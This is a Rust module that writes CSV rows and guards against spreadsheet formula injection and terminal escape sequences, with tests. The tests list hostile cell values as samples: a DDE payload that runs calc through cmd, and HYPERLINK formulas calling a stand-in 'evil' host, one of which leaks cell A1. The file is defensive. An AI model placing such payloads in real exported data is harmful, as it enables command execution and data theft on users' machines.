//! Cells of a CSV (RFC 4180).

use csv::{Terminator, WriterBuilder};

use crate::text::harmless;

/// The first characters with which a spreadsheet reads a cell as a formula; the last four are wide
/// forms of the first ones.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\n', '＝', '＋', '－', '＠'];

/// Returns the text of a cell. Keys, errors and reasons come from outside: a text that a
/// spreadsheet would run gets a `'` in front, which it shows and does not run. Where lists have
/// semicolons, spreadsheets begin a cell after each one, and in the next line.
pub(super) fn cell(text: &str) -> String {
    let text = harmless(text);
    let mut shown = String::with_capacity(text.len() + 1);
    let mut begins = true;
    for c in text.chars() {
        if begins && FORMULA.contains(&c) {
            shown.push('\'');
        }
        shown.push(c);
        // A quote inside a cell may begin what such a program reads as a cell of its own.
        begins = matches!(c, ';' | '\t' | '\n') || (begins && c == '"');
    }
    shown
}

/// Returns rows as lines that end with CR and LF. A cell with a comma, a quote or a line break is
/// quoted.
pub(super) fn rows(rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut writer = WriterBuilder::new().flexible(true).terminator(Terminator::CRLF).from_writer(Vec::new());
    for row in rows {
        // Writing to memory does not fail.
        drop(writer.write_record(row.iter().map(|text| cell(text))));
    }
    let bytes = writer.into_inner().unwrap_or_default();
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Goal: no cell is a formula. Oracle: the first character of each cell, as a reader of CSV
    /// returns it.
    #[test]
    fn no_cell_is_a_formula() {
        let hostile = [
            "=HYPERLINK(\"http://evil\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\n=1",
            "\r=1",
            "＝1",
            "－1",
        ];
        let text = rows(hostile.iter().map(|text| vec![String::from("x"), (*text).to_owned()]));
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let cells: Vec<String> = reader.records().map(|row| row.unwrap()[1].to_owned()).collect();
        assert_eq!(cells.len(), hostile.len());
        for cell in cells {
            assert!(cell.starts_with('\'') || cell.starts_with('\\'), "{cell:?}");
        }
        assert_eq!(cell("order-7"), "order-7");
        assert_eq!(cell("a=b"), "a=b");
    }

    /// Goal: no cell is a formula where the separator is a semicolon or a tab. Oracle: the first
    /// character of each cell, as a reader with that separator returns it.
    #[test]
    fn no_cell_is_a_formula_with_another_separator() {
        let hostile = [
            "x;=HYPERLINK(\"http://evil\"&A1)",
            "x;\"=1\"",
            "x\t+1",
            "a,\"b\n@SUM(A1)",
            ";;-1",
            "\";=1",
            "x;＝1",
        ];
        let text = rows(hostile.iter().map(|text| vec![String::from("x"), (*text).to_owned()]));
        for separator in *b";\t" {
            let mut reader = csv::ReaderBuilder::new();
            let reader = reader.has_headers(false).flexible(true).delimiter(separator);
            let mut reader = reader.from_reader(text.as_bytes());
            let cells: Vec<String> = reader
                .records()
                .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                .collect();
            assert!(cells.len() > hostile.len(), "{cells:?}");
            assert!(!cells.iter().any(|cell| cell.starts_with(FORMULA)), "{cells:?}");
        }
        assert_eq!(cell("a; b;c"), "a; b;c");
    }

    #[test]
    fn a_cell_with_a_quote_or_a_break_is_quoted() {
        let row = ["a,b", "say \"no\"", "two\nlines", "", "ä"].map(str::to_owned).to_vec();
        assert_eq!(rows([row.clone()]), "\"a,b\",\"say \"\"no\"\"\",\"two\nlines\",,ä\r\n");
        let text = rows([row.clone(), row.clone()]);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        for record in reader.records() {
            assert_eq!(record.unwrap().iter().collect::<Vec<_>>(), row);
        }
    }

    #[test]
    fn what_steers_a_terminal_is_escaped() {
        assert_eq!(rows([vec![String::from("\u{1b}[2J\u{202e}")]]), "\\u{1b}[2J\\u{202e}\r\n");
    }
}
